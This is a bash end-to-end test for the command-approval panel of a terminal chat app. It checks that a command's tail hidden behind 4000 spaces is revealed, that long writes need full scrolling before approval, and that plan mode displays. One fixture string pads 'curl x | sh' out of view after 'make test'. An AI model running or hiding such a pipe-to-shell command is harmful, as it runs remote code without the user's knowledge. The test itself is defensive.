#!/usr/bin/env bash
# End-to-end: the approval panel shows a command's tail hidden behind 4000 spaces (`␠×4000; curl x | sh`),
# refuses y on a 300-line write until End showed its last line, sends a typed reason back to the model, and
# --plan shows `plan` in the status bar. Nothing is run: every call is refused.
set -uo pipefail
cd "$(dirname "$0")/../.."
BIN=${GLMCHAT_BIN:-$PWD/.build/release/glmchat}
SCRIPT=$PWD/Tests/e2e/fixtures/approval-script.json
[ -x "$BIN" ] || { echo "tui-approval: $BIN is missing; build it first (swift build -c release)"; exit 1; }
command -v tmux >/dev/null || { echo "tui-approval: tmux is not installed (scripts/setup installs it)"; exit 1; }

TMP=$(mktemp -d)
SOCK="glmchat-approval-$$"
export LANG=C.UTF-8 LC_ALL=C.UTF-8
T() { tmux -L "$SOCK" -f /dev/null "$@"; }
cleanup() { T kill-server 2>/dev/null; rm -rf "$TMP"; }
trap cleanup EXIT
T new-session -d -s keep "sleep 3600"
ENVV="env XDG_CONFIG_HOME=$TMP/config XDG_DATA_HOME=$TMP/data HOME=$TMP/home TERM=xterm-256color LANG=C.UTF-8 LC_ALL=C.UTF-8"
mkdir -p "$TMP/home" "$TMP/ws"

pane() { T capture-pane -p -J -t e2e 2>/dev/null; }
fail() { echo "tui-approval: FAILED: $*"; echo "---- screen ----"; pane; echo "----------------"; exit 1; }
wait_for() {
  local text=$1 secs=${2:-10} i
  for ((i = 0; i < secs * 10; i++)); do
    pane | grep -qF -- "$text" && return 0
    sleep 0.1
  done
  fail "the screen never showed \"$text\" within ${secs}s"
}
start() {
  T kill-session -t e2e 2>/dev/null
  T new-session -d -s e2e -x 100 -y 30 -c "$TMP/ws" "$ENVV $BIN --demo-script $SCRIPT --no-save $*; echo GLMCHAT-EXIT=\$?; sleep 600"
}

start
wait_for "Type a message and press Enter"
# 1. The command's tail is on screen, the spaces counted.
T send-keys -t e2e "hidden" Enter
wait_for "Run a command?"
wait_for "make test␠×4000; curl x | sh"
T send-keys -t e2e n
wait_for "after the command"

# 2. A long write: y is refused until its end was shown; then refused with a reason.
T send-keys -t e2e "long write" Enter
wait_for "▼ more below"
T send-keys -t e2e y
wait_for "scroll to the end first (PgDn/End)"
pane | grep -qF "Write a file?" || fail "y closed the panel before the end was shown"
T send-keys -t e2e End
wait_for " · end"
T send-keys -t e2e r
wait_for "Reason for the model:"
T send-keys -t e2e "not now-5521" Enter
wait_for "after the write"
[ -e "$TMP/ws/big.txt" ] && fail "the refused write happened"

# 3. Plan mode from the command line.
start --plan
wait_for " plan │"
echo "tui-approval: ok"
